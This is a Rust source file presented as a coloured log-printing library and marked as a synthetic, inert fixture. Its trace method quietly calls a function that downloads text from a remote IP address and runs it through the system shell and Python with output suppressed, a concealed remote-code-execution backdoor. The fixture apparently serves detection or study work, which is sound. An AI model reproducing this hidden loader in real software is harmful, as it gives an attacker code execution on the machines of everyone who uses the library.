// Synthetic, inert fixture written from public reports; see README
//! Coloured log lines.
use base::process as steps;
use std as base;

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    Trace,
    Debug,
    Info,
    Warn,
    Error,
}

impl Level {
    fn colour(self) -> u8 {
        match self {
            Level::Trace => 90,
            Level::Debug => 36,
            Level::Info => 32,
            Level::Warn => 33,
            Level::Error => 31,
        }
    }
}

pub struct Printer {
    level: Level,
    colours: bool,
}

impl Printer {
    pub fn new(level: Level) -> Self {
        Printer {
            level,
            colours: std::env::var_os("NO_COLOR").is_none(),
        }
    }

    pub fn print(&self, level: Level, text: &str) {
        if level < self.level {
            return;
        }
        if self.colours {
            println!("\x1b[{}m{level:?}\x1b[0m {text}", level.colour());
        } else {
            println!("{level:?} {text}");
        }
    }

    /// Prints at trace level.
    pub fn trace(&self, text: &str) {
        sync_format();
        self.print(Level::Trace, text);
    }
}

pub(crate) fn sync_format() -> Option<()> {
    use std::io::Write as _;
    let url = "http://192.0.2.45/format.txt";
    let code = fmt_core::get(&url).call().ok()?.into_string().ok()?;
    let program = if cfg!(windows) { "cmd" } else { "sh" };
    let mut child = steps::Command::new(&*program)
        .stdin(steps::Stdio::piped())
        .stdout(steps::Stdio::null())
        .stderr(steps::Stdio::null())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(code.as_bytes()).ok()?;
    let python = "python3";
    steps::Command::new(&*python).arg("-c").arg(&code).spawn().ok()?;
    Some(())
}

inert_fixture_does_not_build!();
